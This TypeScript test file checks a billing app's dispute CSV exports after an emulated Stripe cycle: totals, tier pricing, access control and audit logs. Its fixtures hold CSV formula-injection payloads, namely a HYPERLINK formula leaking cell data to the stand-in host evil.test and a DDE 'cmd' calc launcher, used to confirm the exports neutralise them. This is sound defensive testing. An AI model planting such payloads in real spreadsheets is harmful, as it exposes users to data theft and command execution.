// Finance's dispute downloads (GET /api/customers/{id}/dispute.csv and /dispute-summary.csv) after a
// full billing cycle on the Stripe emulator: a customer on a test clock with a graduated plan, events
// recorded (formula payloads in keys and properties among them), reported by the reporter, the
// period invoiced by Stripe and synced into Tally. The routes are called in-process with session
// cookies and their bodies read back with csv-parse, as a spreadsheet or a script would.
import { parse } from "csv-parse/sync";
import Decimal from "decimal.js";
import type Stripe from "stripe";
import { beforeAll, describe, expect, it } from "vitest";
import { GET as getDisputeCsv } from "@/app/api/customers/[customerId]/dispute.csv/route";
import { GET as getDisputeSummary } from "@/app/api/customers/[customerId]/dispute-summary.csv/route";
import { rateUsage, type TRatedUsageLine } from "@/lib/billing/rate-usage";
import { getPlanVersion } from "@/lib/catalog/get-plan";
import { toPlanPricing } from "@/lib/catalog/to-plan-pricing";
import { db, type Prisma } from "@/lib/db";
import { recordUsageEvents } from "@/lib/metering/record-usage-events";
import { getStripe } from "@/lib/stripe/client";
import { syncInvoice } from "@/lib/stripe/sync-invoice";
import { syncSubscription } from "@/lib/stripe/sync-subscription";
import { createSubscription } from "@/lib/subscriptions/create-subscription";
import { adminContext, clockAdvance, clockCustomer, JAN_1, meter, publishedPlan } from "./catalog-helpers";
import { createCustomer, createUser, get, sessionCookie } from "./factories";
import { at, cycleInvoice, DAY, drain, HOUR, reporterOptions, testSender } from "./reporter-helpers";
import { createUsageMeter } from "./usage-helpers";

const FEB_1 = JAN_1 + 31 * DAY;
const TEN_DAYS_IN = JAN_1 + 10 * DAY;
const JANUARY = `?periodStart=${at(JAN_1).toISOString()}&periodEnd=${at(FEB_1).toISOString()}`;
/** Exact at any size these tests reach (decimal.js keeps 20 significant digits by default). */
const Exact = Decimal.clone({ precision: 100 });
const FORMULA_START = /^[=+\-@\t\r\n\uFF1D\uFF0B\uFF0D\uFF20]/;
const DISPUTE_HEADER = [
  "id",
  "occurred_at",
  "received_at",
  "idempotency_key",
  "meter",
  "quantity",
  "properties",
  "report_line_id",
  "report_window_start",
  "report_window_end",
  "stripe_identifier",
  "stripe_timestamp",
  "reported_at",
  "status",
  "stripe_invoice_id",
  "stripe_invoice_line_id",
];
const NUMBER_COLUMNS = new Set(["quantity", "tier", "events", "unit_price", "unit_price_minor", "flat_price", "flat_price_minor", "amount", "amount_minor"]);
const PROPERTIES = { link: '=HYPERLINK("http://evil.test")', tab: "\t=1", lf: "\n=1", cr: "\r=1", minus: "-12", comma: "a,b", quote: 'say "hi"' };
/** API calls in January: 12,500 calls, across the plan's first tier into the second. */
const CALLS = [
  { key: '=HYPERLINK("http://evil.test/?q="&A1,"Open")', value: "4000", at: JAN_1 + DAY + HOUR / 2, properties: PROPERTIES },
  { key: "+cmd|' /C calc'!A0", value: "8000", at: JAN_1 + 5 * DAY + 3 * HOUR },
  { key: "-400", value: "400", at: JAN_1 + 5 * DAY + 20 * HOUR },
  { key: "@SUM(1+1)", value: "99", at: JAN_1 + 6 * DAY },
  { key: "plain", value: "1", at: JAN_1 + 7 * DAY, properties: { note: "-12" } },
];

type TRow = Record<string, string>;

function csvOf(text: string): { header: string[]; rows: TRow[] } {
  const records: string[][] = parse(text);
  const header = records[0] ?? [];
  return { header, rows: records.slice(1).map((record) => Object.fromEntries(header.map((name, index) => [name, record[index] ?? ""]))) };
}

const request = (file: "dispute.csv" | "dispute-summary.csv", customerId: string, query: string, cookie?: string) => {
  const handler = file === "dispute.csv" ? getDisputeCsv : getDisputeSummary;
  return handler(get(`/api/customers/${customerId}/${file}${query}`, cookie ? { cookie } : {}), { params: Promise.resolve({ customerId }) });
};

async function download(file: "dispute.csv" | "dispute-summary.csv", customerId: string, query: string, cookie: string) {
  const response = await request(file, customerId, query, cookie);
  const text = await response.text();
  expect(response.status, text).toBe(200);
  expect(response.headers.get("content-type")).toBe("text/csv; charset=utf-8");
  return { response, text, ...csvOf(text) };
}

const auditRows = (customerId: string, action: string) => db.auditLog.findMany({ where: { customerId, action }, orderBy: { id: "asc" } });

/** One invoiced January, shared by the tests below (a billing cycle on the emulator takes seconds). */
let world: {
  customer: Prisma.CustomerModel;
  calls: Prisma.MeterModel;
  storage: Prisma.MeterModel;
  adjustments: Prisma.MeterModel;
  memberCookie: string;
  versionId: string;
  invoice: Stripe.Invoice;
  callsLine: Stripe.InvoiceLineItem;
  storageLine: Stripe.InvoiceLineItem;
};

beforeAll(async () => {
  const context = await adminContext();
  const calls = await meter(context, { displayName: "API calls" });
  const storage = await meter(context, { displayName: "Storage", unitLabel: "GB" });
  const version = await publishedPlan(context, [calls.id, storage.id]); // $49; per meter 1,000 included, then 0.5¢ up to 10,000 more, then 0.2¢ + $1
  // A meter outside the plan (never billed), allowing negative values: its events are held, not sent.
  const adjustments = await createUsageMeter("SUM", { displayName: "Adjustments", allowNegative: true });
  const { clock, customer } = await clockCustomer(context);
  const member = await createUser({ customerId: customer.id });
  const subscription = await createSubscription(customer.id, { planVersionId: version.id }, context);

  const inputs = [
    ...CALLS.map((event) => ({ idempotency_key: event.key, meter: calls.eventName, value: event.value, timestamp: at(event.at).toISOString(), ...(event.properties ? { properties: event.properties } : {}) })),
    { idempotency_key: "storage-1", meter: storage.eventName, value: "50", timestamp: at(JAN_1 + 2 * DAY).toISOString() },
    { idempotency_key: "storage-2", meter: storage.eventName, value: "70", timestamp: at(JAN_1 + 3 * DAY).toISOString() },
    { idempotency_key: "-0.25", meter: adjustments.eventName, value: "-0.25", timestamp: at(JAN_1 + 4 * DAY).toISOString() },
  ].map((input) => ({ ...input, customer: customer.externalId }));
  await recordUsageEvents(inputs, { pointer: (index) => `/events/${index}`, now: at(TEN_DAYS_IN) });

  await clockAdvance(clock.id, TEN_DAYS_IN);
  await drain(testSender(), reporterOptions([customer.id], () => at(TEN_DAYS_IN)));
  await clockAdvance(clock.id, FEB_1 + 2 * HOUR);
  await syncSubscription(subscription.stripeSubscriptionId ?? "");
  const invoice = await cycleInvoice(customer.stripeCustomerId ?? "", FEB_1);
  if (!invoice) throw new Error("January was not invoiced");
  await syncInvoice(invoice.id ?? "");
  // February's first call: outside January and its invoice line.
  await recordUsageEvents([{ idempotency_key: "february", customer: customer.externalId, meter: calls.eventName, value: "7", timestamp: at(FEB_1 + HOUR).toISOString() }], {
    pointer: (index) => `/events/${index}`,
    now: at(FEB_1 + 2 * HOUR),
  });

  const priceOf = (meterId: string) => version.charges.find((charge) => charge.meterId === meterId)?.stripePriceId;
  const lineOf = (meterId: string) => {
    const line = invoice.lines.data.find((candidate) => candidate.pricing?.price_details?.price === priceOf(meterId));
    if (!line) throw new Error(`no invoice line for ${meterId}`);
    return line;
  };
  world = {
    customer: await db.customer.findUniqueOrThrow({ where: { id: customer.id } }),
    calls,
    storage,
    adjustments,
    memberCookie: await sessionCookie(member.id),
    versionId: version.id,
    invoice,
    callsLine: lineOf(calls.id),
    storageLine: lineOf(storage.id),
  };
}, 120_000);

describe("GET /api/customers/{id}/dispute.csv", () => {
  it("round-trips through a CSV parser with the exact total: the raw sum, and the invoice line's quantity after the cycle", async () => {
    const { customer, calls, callsLine, invoice, memberCookie } = world;
    const { header, rows, response } = await download("dispute.csv", customer.id, `${JANUARY}&meter=${calls.eventName}`, memberCookie);
    expect(header).toEqual(DISPUTE_HEADER);
    expect(response.headers.get("content-disposition")).toBe(`attachment; filename="${customer.externalId}-dispute-2024-01-01-2024-02-01.csv"`);
    expect(rows.length).toBe(CALLS.length);

    const total = rows.reduce((sum, row) => sum.plus(row.quantity ?? "0"), new Exact(0));
    expect(total.toFixed()).toBe("12500");
    expect(total.toFixed()).toBe(new Exact(await rawTotalIn(customer.id, calls.id)).toFixed());
    expect(total.toFixed()).toBe(new Exact(callsLine.quantity ?? Number.NaN).toFixed());
    const stored = await db.invoiceLine.findFirstOrThrow({ where: { stripeLineId: callsLine.id } });
    expect(total.toFixed()).toBe(new Exact(stored.quantity?.toString() ?? "NaN").toFixed());

    // Every event reached Stripe on a report line whose window holds it, and is billed on January's line.
    for (const row of rows) {
      expect(row).toMatchObject({ status: "reported", meter: calls.eventName, stripe_invoice_id: invoice.id, stripe_invoice_line_id: callsLine.id });
      expect(row.report_line_id).toMatch(/^\d+$/);
      expect(row.stripe_identifier).not.toBe("");
      const [start, occurred, end] = [row.report_window_start ?? "", row.occurred_at ?? "", row.report_window_end ?? ""];
      expect(start <= occurred && occurred < end, JSON.stringify(row)).toBe(true);
      expect(row.reported_at).toMatch(/^2024-01-11T/);
    }
  });

  it("makes formula payloads in keys and properties inert; negative-looking text stays text while quantities stay numbers", async () => {
    const { customer, memberCookie, adjustments } = world;
    const { rows } = await download("dispute.csv", customer.id, JANUARY, memberCookie);
    const keys = rows.map((row) => row.idempotency_key);
    for (const event of CALLS.filter((candidate) => candidate.key !== "plain")) expect(keys).toContain(`'${event.key}`);
    expect(keys).toContain("'-0.25");
    for (const row of rows) {
      for (const [column, cell] of Object.entries(row)) {
        const allowed = column === "quantity" ? /^-?\d+(\.\d+)?$/.test(cell) : cell.startsWith("'");
        expect(!FORMULA_START.test(cell) || allowed, `${column}: ${JSON.stringify(cell)}`).toBe(true);
      }
    }
    // The negative quantity is a number; the same text as a key is not.
    const negative = rows.find((row) => row.meter === adjustments.eventName);
    expect(negative).toMatchObject({ quantity: "-0.25", idempotency_key: "'-0.25", status: "held", stripe_invoice_line_id: "" });
    // Properties are JSON text (starting with "{"): their exact values come back.
    expect(JSON.parse(rows.find((row) => row.idempotency_key?.startsWith("'=HYPERLINK"))?.properties ?? "null")).toEqual(PROPERTIES);
    expect(rows.map((row) => row.idempotency_key)).not.toContain("february");
  });

  it("takes the period and meter from ?invoiceLineId= alone, by Stripe's or Tally's line id", async () => {
    const { customer, calls, storage, callsLine, storageLine, memberCookie } = world;
    const byPeriod = await download("dispute.csv", customer.id, `${JANUARY}&meter=${calls.eventName}`, memberCookie);
    const byLine = await download("dispute.csv", customer.id, `?invoiceLineId=${callsLine.id}`, memberCookie);
    expect(byLine.text).toBe(byPeriod.text);
    expect(byLine.response.headers.get("content-disposition")).toBe(byPeriod.response.headers.get("content-disposition"));

    const tallyLine = await db.invoiceLine.findFirstOrThrow({ where: { stripeLineId: storageLine.id } });
    const storageRows = (await download("dispute.csv", customer.id, `?invoiceLineId=${tallyLine.id}`, memberCookie)).rows;
    expect(storageRows.map((row) => row.idempotency_key)).toEqual(["storage-1", "storage-2"]);
    expect(new Set(storageRows.map((row) => row.meter))).toEqual(new Set([storage.eventName]));
    expect(storageRows.every((row) => row.stripe_invoice_line_id === storageLine.id)).toBe(true);
  });

  it("answers 400 naming the parameters without a period or an invoice line, and 422 for a meter the line does not bill", async () => {
    const { customer, memberCookie, storage, callsLine } = world;
    for (const [query, pointer] of [
      ["", "periodStart"],
      [`?periodStart=${at(JAN_1).toISOString()}`, "periodEnd"],
      [`?periodStart=${at(FEB_1).toISOString()}&periodEnd=${at(JAN_1).toISOString()}`, "periodEnd"],
    ] as const) {
      const response = await request("dispute.csv", customer.id, query, memberCookie);
      expect(response.status, query).toBe(400);
      expect(JSON.stringify(await response.json()), query).toContain(`/query/${pointer}`);
    }
    const mismatch = await request("dispute-summary.csv", customer.id, `?invoiceLineId=${callsLine.id}&meter=${storage.eventName}`, memberCookie);
    expect(mismatch.status).toBe(422);
  });

  it("answers 404 for another customer's invoice line, even to staff", async () => {
    const { callsLine } = world;
    const other = await createCustomer();
    const finance = await sessionCookie((await createUser({ staffRole: "FINANCE" })).id);
    for (const file of ["dispute.csv", "dispute-summary.csv"] as const) {
      const response = await request(file, other.id, `?invoiceLineId=${callsLine.id}`, finance);
      expect(response.status, file).toBe(404);
      expect(await response.json()).toMatchObject({ code: "not_found", detail: `No metered invoice line "${callsLine.id}".` });
    }
    expect(await auditRows(other.id, "dispute_csv.downloaded")).toEqual([]);
  });

  it("answers another customer's member 404, exactly as for a missing id, and logs nothing", async () => {
    const { customer } = world;
    const stranger = await sessionCookie((await createUser({ customerId: (await createCustomer()).id })).id);
    const logged = async () => (await auditRows(customer.id, "dispute_csv.downloaded")).length + (await auditRows(customer.id, "dispute_summary.downloaded")).length;
    const before = await logged();
    const strip = (body: Record<string, unknown>) => ({ ...body, instance: undefined, request_id: undefined });
    for (const file of ["dispute.csv", "dispute-summary.csv"] as const) {
      const other = await request(file, customer.id, JANUARY, stranger);
      const missing = await request(file, "0190f7a2-0000-7000-8000-000000000000", JANUARY, stranger);
      expect(other.status, file).toBe(404);
      expect(other.headers.get("content-type")).toBe("application/problem+json");
      expect(strip(await other.json())).toEqual(strip(await missing.json()));
      expect((await request(file, customer.id, JANUARY)).status, file).toBe(401);
    }
    expect(await logged()).toBe(before);
  });

  it("lets finance and admins download any customer's files, and logs who downloaded what before the first byte", async () => {
    const { customer, calls, callsLine } = world;
    for (const staffRole of ["FINANCE", "ADMIN"] as const) {
      const staff = await createUser({ staffRole });
      const cookie = await sessionCookie(staff.id);
      const response = await request("dispute.csv", customer.id, `?invoiceLineId=${callsLine.id}`, cookie);
      expect(response.status, staffRole).toBe(200);
      // The audit row exists before the body is read.
      const [entry, ...more] = (await auditRows(customer.id, "dispute_csv.downloaded")).filter((row) => row.actorUserId === staff.id);
      expect(more).toEqual([]);
      expect(entry).toMatchObject({
        actorKind: "USER",
        entityType: "customer",
        entityId: customer.id,
        requestId: response.headers.get("x-request-id"),
        after: { periodStart: at(JAN_1).toISOString(), periodEnd: at(FEB_1).toISOString(), meter: calls.eventName, stripeInvoiceLineId: callsLine.id },
      });
      expect(csvOf(await response.text()).rows.length, staffRole).toBe(CALLS.length);

      const summary = await request("dispute-summary.csv", customer.id, JANUARY, cookie);
      expect(summary.status, staffRole).toBe(200);
      expect((await auditRows(customer.id, "dispute_summary.downloaded")).filter((row) => row.actorUserId === staff.id)).toMatchObject([
        { after: { periodStart: at(JAN_1).toISOString(), periodEnd: at(FEB_1).toISOString(), meter: null, stripeInvoiceLineId: null } },
      ]);
    }
  });
});

describe("GET /api/customers/{id}/dispute-summary.csv", () => {
  it("walks from the raw total to the invoice line: the engine's tiers and amount, equal to Stripe's line in quantity and amount", async () => {
    const { customer, calls, callsLine, invoice, memberCookie, versionId } = world;
    const { rows, response } = await download("dispute-summary.csv", customer.id, `?invoiceLineId=${callsLine.id}`, memberCookie);
    expect(response.headers.get("content-disposition")).toBe(`attachment; filename="${customer.externalId}-dispute-summary-2024-01-01-2024-02-01.csv"`);
    expect(rows.map((row) => [row.meter, row.step, row.tier])).toEqual([
      ["", "plan", ""],
      [calls.eventName, "raw_events", ""],
      [calls.eventName, "included", ""],
      [calls.eventName, "tier", "1"],
      [calls.eventName, "tier", "2"],
      [calls.eventName, "line_amount", ""],
      [calls.eventName, "invoice_line", ""],
      [calls.eventName, "difference", ""],
    ]);
    const step = (name: string, tier = "") => rows.find((row) => row.step === name && row.tier === tier) as TRow;
    expect(step("raw_events")).toMatchObject({ events: String(CALLS.length), quantity: "12500" });

    // The engine, run here on the same total with the same plan version: every figure matches.
    const engine = rateUsage(toPlanPricing(await getPlanVersion(versionId)), new Map([[calls.id, new Decimal(12_500)]])).lines.find(
      (line): line is TRatedUsageLine => line.kind === "USAGE" && line.meterId === calls.id,
    );
    const [included, tier1, tier2] = engine?.breakdown ?? [];
    expect(step("included")).toMatchObject({ quantity: included?.quantity.toFixed(), amount_minor: "0" });
    expect(step("tier", "1")).toMatchObject({ quantity: "10000", unit_price_minor: "0.5", unit_price: "0.005", amount_minor: tier1?.amountMinor.toFixed(), amount: "50" });
    expect(step("tier", "2")).toMatchObject({ quantity: "1500", unit_price_minor: "0.2", unit_price: "0.002", flat_price_minor: "100", flat_price: "1", amount_minor: tier2?.amountMinor.toFixed(), amount: "4" });
    expect(step("line_amount")).toMatchObject({ quantity: "12500", amount_minor: String(engine?.amountMinor), amount: "54", currency: "usd" });

    // Stripe's own line, read from Stripe (not Tally's copy): the same quantity and amount, no difference.
    const fromStripe = (await getStripe().invoices.listLineItems(invoice.id ?? "", { limit: 100 })).data.find((line) => line.id === callsLine.id);
    expect(step("invoice_line")).toMatchObject({
      stripe_invoice_id: invoice.id,
      stripe_invoice_line_id: callsLine.id,
      quantity: String(fromStripe?.quantity),
      amount_minor: String(fromStripe?.amount),
      amount: "54",
    });
    expect(fromStripe?.amount).toBe(5_400);
    expect(step("difference")).toMatchObject({ quantity: "0", amount_minor: "0", amount: "0" });
  });

  it("for a whole period: every meter of the plan, other meters' usage unpriced, then the base fee and the engine's total", async () => {
    const { customer, calls, storage, adjustments, storageLine, memberCookie } = world;
    const { rows } = await download("dispute-summary.csv", customer.id, JANUARY, memberCookie);
    for (const row of rows) {
      for (const [column, cell] of Object.entries(row)) {
        if (NUMBER_COLUMNS.has(column)) expect(cell, `${column} of ${row.step}`).toMatch(/^(-?\d+(\.\d+)?)?$/);
        else expect(!FORMULA_START.test(cell) || cell.startsWith("'"), `${column}: ${JSON.stringify(cell)}`).toBe(true);
      }
    }
    expect([...new Set(rows.map((row) => row.meter))]).toEqual(["", calls.eventName, storage.eventName, adjustments.eventName]);
    const of = (meterName: string, name: string) => rows.find((row) => row.meter === meterName && row.step === name);
    expect(of(storage.eventName, "raw_events")).toMatchObject({ events: "2", quantity: "120" });
    expect(of(storage.eventName, "line_amount")).toMatchObject({ amount_minor: "0" });
    expect(of(storage.eventName, "invoice_line")).toMatchObject({ stripe_invoice_line_id: storageLine.id, amount_minor: "0", quantity: "120" });
    expect(of(storage.eventName, "difference")).toMatchObject({ quantity: "0", amount_minor: "0" });
    expect(of(adjustments.eventName, "raw_events")).toMatchObject({ events: "1", quantity: "-0.25" });
    expect(of(adjustments.eventName, "line_amount")).toMatchObject({ amount_minor: "" });
    expect(of(adjustments.eventName, "invoice_line")?.description).toMatch(/^Not invoiced/);
    expect(of("", "base_fee")).toMatchObject({ amount_minor: "4900", amount: "49" });
    expect(of("", "total")).toMatchObject({ amount_minor: "10300", amount: "103" });
    expect(rows.some((row) => row.step === "credit")).toBe(false);
  });
});

/** Raw events of a customer and meter in January, summed exactly by Postgres. */
async function rawTotalIn(customerId: string, meterId: string): Promise<string> {
  const rows = await db.$queryRaw<{ total: string | null }[]>`
    SELECT sum(quantity)::text AS total FROM usage_events
    WHERE customer_id = ${customerId}::uuid AND meter_id = ${meterId}::uuid AND occurred_at >= ${at(JAN_1)} AND occurred_at < ${at(FEB_1)}`;
  return rows[0]?.total ?? "0";
}
